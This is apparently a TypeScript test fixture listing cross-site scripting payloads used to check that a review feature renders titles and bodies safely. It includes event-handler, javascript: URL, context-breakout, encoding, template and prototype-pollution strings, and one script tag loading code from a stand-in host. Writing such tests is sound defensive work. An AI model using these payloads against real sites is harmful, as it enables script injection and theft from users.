/**
 * Script-injection payloads that the review tests post as titles and bodies. Each one would show
 * itself if it ran: an alert (a page 'dialog' event), a window-level marker (`__xss`, `polluted`),
 * an element with a marker (`data-xss`, an id starting with "xss", an <xss> element), or a request
 * to another host. Every payload fits a review title (at most 150 characters) and is one line.
 *
 * Drawn from the usual sources (OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, HTML5 Security Cheatsheet) and from what is specific to this stack: breaking out of
 * React Router's inline hydration data, template syntax and JSON prototype keys.
 */
export const INJECTION_CORPUS: readonly string[] = [
  // Plain script and event handlers
  `<script>alert(1)</script>`,
  `<script>window.__xss=1</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror="window.__xss=1" data-xss>`,
  `<img src=x onerror=alert(String.fromCharCode(88,83,83))>`,
  "<img src=`x` onerror=alert(1)>",
  `<IMG SRC=JaVaScRiPt:alert(1) data-xss>`,
  `<img src=x:alert(1) onerror=eval(src) data-xss>`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`,
  `<img srcset="x" onerror="alert(1)" data-xss>`,
  `<svg onload=alert(1)>`,
  `<svg/onload=window.__xss=1>`,
  `<svg><script>window.__xss=1</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=alert(1)>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20 id=xss-svg>XSS</text></a></svg>`,
  `<body onload=alert(1)>`,
  `<body onpageshow=alert(1)>`,
  `<details open ontoggle=alert(1) data-xss>`,
  `<input autofocus onfocus=alert(1) data-xss>`,
  `<select autofocus onfocus=alert(1) data-xss>`,
  `<textarea autofocus onfocus=alert(1) data-xss>`,
  `<xss id=xss onfocus=alert(1) autofocus tabindex=1>`,
  `<marquee onstart=alert(1) data-xss>`,
  `<video><source onerror=alert(1) data-xss></video>`,
  `<audio src=x onerror=alert(1) data-xss>`,
  `<picture><source srcset=x><img onerror=alert(1) data-xss></picture>`,
  `<div id="xss-div" onmouseover="alert(1)">hover me</div>`,
  // URLs with javascript: and data:
  `<a href="javascript:alert(1)" id="xss-link">click</a>`,
  `<a href=" &#14; javascript:alert(1)" id="xss-a2">x</a>`,
  `<iframe src="javascript:alert(1)" data-xss></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>" data-xss></iframe>`,
  `<iframe src="data:text/html,<script>alert(1)</script>" data-xss>`,
  `<object data="javascript:alert(1)" data-xss>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" data-xss>`,
  `<embed src="javascript:alert(1)" data-xss>`,
  `<form action="javascript:alert(1)" data-xss><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<link rel=stylesheet href=javascript:alert(1) data-xss>`,
  `<div style="background:url(javascript:alert(1))" data-xss>`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  // Breaking out of a context: attributes, inline scripts (the hydration data), raw text elements
  `"><script>alert(1)</script>`,
  `'><img src=x onerror=alert(1) data-xss>`,
  `</script><script>window.__xss=1</script>`,
  `</script><img src=x onerror=alert(1)>`,
  `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<template><script>alert(1)</script></template><xss id=xss-template>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `"-alert(1)-"`,
  `';alert(1);//`,
  // Encodings that a careless decoder would turn into markup
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `＜script＞alert(1)＜/script＞`,
  `line\u2028separator\u2029</script><script>alert(1)</script>`,
  // Template syntax and JSON keys
  `{{constructor.constructor('alert(1)')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
  "${alert(1)}",
  `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`,
  `javascript:alert(1)`,
];
